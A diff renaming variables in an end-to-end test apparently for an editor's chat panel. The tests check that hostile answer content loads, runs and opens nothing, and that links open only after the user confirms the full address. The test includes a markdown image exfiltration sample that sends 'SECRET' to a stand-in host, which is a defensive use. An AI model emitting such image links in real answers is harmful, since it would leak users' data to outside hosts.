@@ -50,13 +50,13 @@ beforeEach(async () => {
 
 test('a hostile answer and its reasoning load, run and open nothing', async () => {
   const { chat } = session();
-  const ownAddress = `127.0.0.1:${listener.port}`;
+  const ownHost = `127.0.0.1:${listener.port}`;
   const texts = [
     ...payloads,
     '![x](https://e.tld/?q=SECRET)',
     '<https://e.tld/auto> and https://e.tld/bare',
   ].map((text) =>
-    text.replaceAll('https://e.tld', `http://${ownAddress}`).replaceAll('e.tld', ownAddress),
+    text.replaceAll('https://e.tld', `http://${ownHost}`).replaceAll('e.tld', ownHost),
   );
   const before = await countActiveElements();
   const content = texts.join('\n\n');
@@ -72,9 +72,9 @@ test('a hostile answer and its reasoning load, run and open nothing', async () =
   const links = chat.lastAnswer.locator('.text a[href]');
   const targets = await links.evaluateAll((all) => all.map((link) => link.getAttribute('href')));
   expect(targets.length).toBeGreaterThan(3);
-  expect(targets.filter((target) => !target?.startsWith(`http://${ownAddress}`))).toEqual([]);
+  expect(targets.filter((target) => !target?.startsWith(`http://${ownHost}`))).toEqual([]);
   const diagram = chat.lastAnswer.locator('pre').filter({ hasText: 'click A href' });
-  expect(await diagram.first().innerText()).toContain(`img:"http://${ownAddress}"`);
+  expect(await diagram.first().innerText()).toContain(`img:"http://${ownHost}"`);
   await expectNoSideEffects();
 });
 
@@ -83,18 +83,18 @@ test('a link opens only after the user confirms the whole address', async () => 
   const pages = (): number => page.context().pages().length;
   const open = pages();
   const away = 'https://docs.invalid/p%2Fq?x=a%26b%3Dc&y=%2523';
-  const ownAddress = `http://127.0.0.1:${listener.port}/delete?all=1`;
-  await control().addScripts({ steps: [{ content: `[away](${away}) and [here](${ownAddress})` }] });
+  const ownUrl = `http://127.0.0.1:${listener.port}/delete?all=1`;
+  await control().addScripts({ steps: [{ content: `[away](${away}) and [here](${ownUrl})` }] });
   await chat.send('Links');
   await chat.lastAnswer.getByRole('link', { name: 'here' }).waitFor();
   await chat.waitUntilIdle();
   const dialog = page.locator('.monaco-dialog-box');
-  for (const [name, address] of [
+  for (const [name, url] of [
     ['away', away],
-    ['here', ownAddress],
+    ['here', ownUrl],
   ] as const) {
     await chat.lastAnswer.getByRole('link', { name }).click();
-    await dialog.getByText(address).waitFor();
+    await dialog.getByText(url).waitFor();
     await pressIn(dialog, 'Escape');
     await dialog.waitFor({ state: 'detached' });
   }
@@ -213,8 +213,8 @@ async function expectNoSideEffects(): Promise<void> {
   );
   expect(listener.connections()).toBe(0);
   // A blocked request would cause a console message. The lookahead excludes ports that start with the same digits.
-  const address = new RegExp(String.raw`127\.0\.0\.1:${listener.port}(?!\d)`, 'u');
-  expect(consoleLines.filter((line) => address.test(line))).toEqual([]);
+  const hostPattern = new RegExp(String.raw`127\.0\.0\.1:${listener.port}(?!\d)`, 'u');
+  expect(consoleLines.filter((line) => hostPattern.test(line))).toEqual([]);
 }
 
 async function readTextsBelow(folder: string): Promise<string[]> {
